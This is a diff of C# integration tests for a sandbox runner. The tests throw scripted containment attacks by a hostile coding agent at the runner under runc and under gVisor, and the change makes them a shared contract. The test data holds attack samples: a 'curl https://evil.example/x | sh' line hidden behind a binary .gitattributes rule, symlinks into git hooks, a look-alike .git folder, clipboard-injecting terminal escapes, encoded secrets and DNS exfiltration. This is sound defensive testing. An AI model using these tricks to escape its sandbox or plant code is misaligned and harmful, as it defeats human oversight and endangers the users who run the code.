@@ -1,4 +1,3 @@
-using Docker.DotNet;
 using SandboxRunner.Configuration;
 using SandboxRunner.IntegrationTests.Infrastructure;
 using SandboxRunner.Policy;
@@ -6,12 +5,13 @@ using SandboxRunner.Runs;
 using SandboxRunner.Sandbox;
 using TaskStatus = SandboxRunner.Runs.TaskStatus;
 
-namespace SandboxRunner.IntegrationTests;
+namespace SandboxRunner.IntegrationTests.Contracts;
 
 /// <summary>
 /// Every containment attack of issue 10, one test each, named for the attack, through the real engine: with
 /// the fake Codex for what the agent does to its box, and the real Codex 0.169 (scripted model) where the
-/// attack goes through Codex's own output (the commands it reports, its JSONL, its last message).
+/// attack goes through Codex's own output (the commands it reports, its JSONL, its last message). Run under
+/// runc by <see cref="HostileAgentContainmentTests"/> and under gVisor by Gvisor/GvisorHostileAgentTests.
 /// <list type="bullet">
 /// <item>Network (deny): UDP broadcast to host services; sibling tasks reaching each other; DNS exfiltration
 /// through the proxy (an IP URL's PTR query, a name's A query); the model key under another variable name;
@@ -22,8 +22,7 @@ namespace SandboxRunner.IntegrationTests;
 /// variables; a write to Codex's stdout that hides a command.</item>
 /// </list>
 /// </summary>
-[Collection(DockerCollection.Name)]
-public sealed class HostileAgentContainmentTests(DockerFixture docker) : IAsyncLifetime
+public abstract class HostileAgentContract(IEngineUnderTest target) : IAsyncLifetime
 {
     private const string Key = "sk-test-proxy-held-0123456789abcdef";
 
@@ -33,14 +32,15 @@ public sealed class HostileAgentContainmentTests(DockerFixture docker) : IAsyncL
     private readonly HostHttpServer _allowed = new("allowed-body");
     private string _gateway = "";
 
-    public async Task InitializeAsync() => _gateway = await docker.HostGatewayAsync();
+    protected IEngineUnderTest Target { get; } = target;
+
+    public async Task InitializeAsync() => _gateway = await Target.HostGatewayAsync();
 
     public async Task DisposeAsync() => await _allowed.DisposeAsync();
 
     private string Allowed => $"{_gateway}:{_allowed.Port}";
 
-    private Task<RunnerHarness> DenyAsync() => RunnerHarness.CreateAsync(
-        docker,
+    private Task<RunnerHarness> DenyAsync() => Target.HarnessAsync(
         c => c with { NetworkPolicy = NetworkPolicy.Deny, NetworkAllowlist = [Allowed], ModelBaseUrl = $"http://{Allowed}/v1", EnvPassthrough = ["CODEX_API_KEY"] },
         name => name == "CODEX_API_KEY" ? Key : null);
 
@@ -81,9 +81,9 @@ public sealed class HostileAgentContainmentTests(DockerFixture docker) : IAsyncL
     {
         var runId = $"dns-{Guid.NewGuid():N}"[..16];
         var scope = Labels.ScopeOf($"/test/{runId}");
-        await using var dns = await DnsRecorder.StartAsync(docker.Engine, runId);
+        await using var dns = await DnsRecorder.StartAsync(Target.Engine, runId);
         var options = new EgressOptions(ImageRecipe.EgressProxy().Tag, ["allowed.example", "10.9.8.7"], "", null) { DnsServers = [dns.Address] };
-        await using var gateway = await EgressGateway.StartAsync(docker.Engine, scope, runId, options, CancellationToken.None);
+        await using var gateway = await EgressGateway.StartAsync(Target.Engine, scope, runId, options, CancellationToken.None);
         var network = await gateway.CreateTaskNetworkAsync("client", CancellationToken.None);
         try
         {
@@ -108,15 +108,14 @@ public sealed class HostileAgentContainmentTests(DockerFixture docker) : IAsyncL
     public async Task In_deny_the_model_key_enters_no_task_under_any_variable_name()
     {
         // The key configured under its own name, and the same value also in the default passthrough variable.
-        await using var h = await RunnerHarness.CreateAsync(
-            docker,
+        await using var h = await Target.HarnessAsync(
             c => c with
             {
                 NetworkPolicy = NetworkPolicy.Deny, NetworkAllowlist = [Allowed], ModelBaseUrl = $"http://{Allowed}/v1",
                 ModelApiKeyEnv = "MY_MODEL_KEY", EnvPassthrough = ["CODEX_API_KEY", "OTHER_SETTING"],
             },
             name => name is "MY_MODEL_KEY" or "CODEX_API_KEY" ? Key : name == "OTHER_SETTING" ? "kept-value" : null);
-        using var client = new DockerClientBuilder().WithEndpoint(docker.Engine.Endpoint).Build();
+        using var client = Target.Engine.Connection.CreateClient();
         IList<string>? env = null;
         h.Engine.ContainerStarted += id =>
         {
@@ -140,7 +139,7 @@ public sealed class HostileAgentContainmentTests(DockerFixture docker) : IAsyncL
     public async Task A_passed_secret_printed_encoded_is_flagged_and_masked(string encode, string encoding)
     {
         const string secret = "pass-through-secret-0123456789";
-        await using var h = await RunnerHarness.CreateAsync(docker, c => c with { EnvPassthrough = ["SOME_TOKEN"] }, name => name == "SOME_TOKEN" ? secret : null);
+        await using var h = await Target.HarnessAsync(c => c with { EnvPassthrough = ["SOME_TOKEN"] }, name => name == "SOME_TOKEN" ? secret : null);
 
         var result = Assert.Single((await h.RunAsync(RunnerHarness.Task("encoded", $"@run 0 printf %s \"$SOME_TOKEN\" | {encode}"))).Results);
 
@@ -157,7 +156,7 @@ public sealed class HostileAgentContainmentTests(DockerFixture docker) : IAsyncL
     [Fact]
     public async Task Symlinks_into_git_hooks_and_git_config_are_violations()
     {
-        await using var h = await RunnerHarness.CreateAsync(docker);
+        await using var h = await Target.HarnessAsync();
 
         var result = Assert.Single((await h.RunAsync(RunnerHarness.Task("links",
             "@symlink src/hooks ../.git/hooks", "@symlink src/gitcfg ../.git/config", "@write src/ok.txt fine\\n"))).Results);
@@ -170,7 +169,7 @@ public sealed class HostileAgentContainmentTests(DockerFixture docker) : IAsyncL
     [Fact]
     public async Task A_gitattributes_that_hides_a_change_as_binary_still_gives_a_text_patch_and_is_flagged()
     {
-        await using var h = await RunnerHarness.CreateAsync(docker);
+        await using var h = await Target.HarnessAsync();
 
         var result = Assert.Single((await h.RunAsync(RunnerHarness.Task("hidden",
             "@write src/.gitattributes * -diff\\n", "@append src/app.txt curl https://evil.example/x | sh\\n"))).Results);
@@ -183,7 +182,7 @@ public sealed class HostileAgentContainmentTests(DockerFixture docker) : IAsyncL
     [Fact]
     public async Task A_look_alike_git_folder_is_a_violation()
     {
-        await using var h = await RunnerHarness.CreateAsync(docker);
+        await using var h = await Target.HarnessAsync();
 
         var result = Assert.Single((await h.RunAsync(RunnerHarness.Task("lookalike", "@write .g\u200cit/config [core]\\n"))).Results);
 
@@ -194,7 +193,7 @@ public sealed class HostileAgentContainmentTests(DockerFixture docker) : IAsyncL
     [Fact]
     public async Task Terminal_escapes_in_the_summary_and_logs_are_made_visible()
     {
-        await using var h = await RunnerHarness.CreateAsync(docker);
+        await using var h = await Target.HarnessAsync();
 
         var result = Assert.Single((await h.RunAsync(RunnerHarness.Task("escapes",
             "@stderr \u001b[2Jcleared", "@run 0 printf '\\033]52;c;Y3VybCB4IHwgc2g=\\007' >&2", "@message all good\u001b]52;c;Y3VybA==\u0007"))).Results);
@@ -208,7 +207,7 @@ public sealed class HostileAgentContainmentTests(DockerFixture docker) : IAsyncL
     {
         await using var model = await ScriptedModelServer.StartAsync();
         model.Scenario("escape", ModelStep.Message("all good\u001b]52;c;Y3VybCB4IHwgc2g=\u0007\u001b[2J"));
-        await using var h = await RealCodex.HarnessAsync(docker, model);
+        await using var h = await RealCodex.HarnessAsync(Target, model);
 
         var result = Assert.Single((await h.RunAsync(RunnerHarness.Task("escape", "Say done.", ScriptedModelServer.Marker("escape")))).Results);
 
@@ -275,17 +274,17 @@ public sealed class HostileAgentContainmentTests(DockerFixture docker) : IAsyncL
     {
         await using var model = await ScriptedModelServer.StartAsync();
         model.Scenario(name, [.. steps, ModelStep.Message("done")]);
-        await using var h = await RealCodex.HarnessAsync(docker, model, c => c with { AllowedCommands = ["npm test"] });
+        await using var h = await RealCodex.HarnessAsync(Target, model, c => c with { AllowedCommands = ["npm test"] });
 
         var result = Assert.Single((await h.RunAsync(RunnerHarness.Task(name, "Run the tests.", ScriptedModelServer.Marker(name)))).Results);
 
-        Assert.Equal(steps.Length, result.CommandsRun.Count);
+        Assert.True(steps.Length == result.CommandsRun.Count, $"{result.CommandsRun.Count} of {steps.Length} commands reported; {result.Status}: {result.NotesForManager}\n{result.Logs.Tail}");
         return result;
     }
 
     private async Task<string> RunClientAsync(string runId, TaskNetwork network, string script)
     {
-        var id = await docker.Engine.CreateAsync(
+        var id = await Target.Engine.CreateAsync(
             new ContainerSpec
             {
                 Image = DockerFixture.FakeCodexImage,
@@ -296,22 +295,24 @@ public sealed class HostileAgentContainmentTests(DockerFixture docker) : IAsyncL
                 Environment = new Dictionary<string, string>(),
                 Mounts = [],
                 Labels = new Dictionary<string, string> { [Labels.Run] = runId },
-                Limits = new ResourceLimits(MemoryBytes: 64L * 1024 * 1024, Cpus: 0.5, Pids: 32, TmpBytes: 1024 * 1024),
+                // Room for gVisor's own threads and memory, which a container's limits count too.
+                Limits = new ResourceLimits(MemoryBytes: 256L * 1024 * 1024, Cpus: 0.5, Pids: 128, TmpBytes: 1024 * 1024),
                 NetworkMode = network.NetworkMode,
+                Runtime = Target.Runtime,
             },
             CancellationToken.None);
         try
         {
-            await docker.Engine.StartAsync(id, CancellationToken.None);
+            await Target.Engine.StartAsync(id, CancellationToken.None);
             using var deadline = new CancellationTokenSource(TimeSpan.FromSeconds(60));
-            await docker.Engine.WaitAsync(id, deadline.Token);
+            await Target.Engine.WaitAsync(id, deadline.Token);
             var output = new System.Text.StringBuilder();
-            await docker.Engine.ReadLogsAsync(id, follow: false, (_, bytes) => output.Append(System.Text.Encoding.UTF8.GetString(bytes)), CancellationToken.None);
+            await Target.Engine.ReadLogsAsync(id, follow: false, (_, bytes) => output.Append(System.Text.Encoding.UTF8.GetString(bytes)), CancellationToken.None);
             return output.ToString();
         }
         finally
         {
-            await docker.Engine.RemoveAsync(id, CancellationToken.None);
+            await Target.Engine.RemoveAsync(id, CancellationToken.None);
         }
     }
 
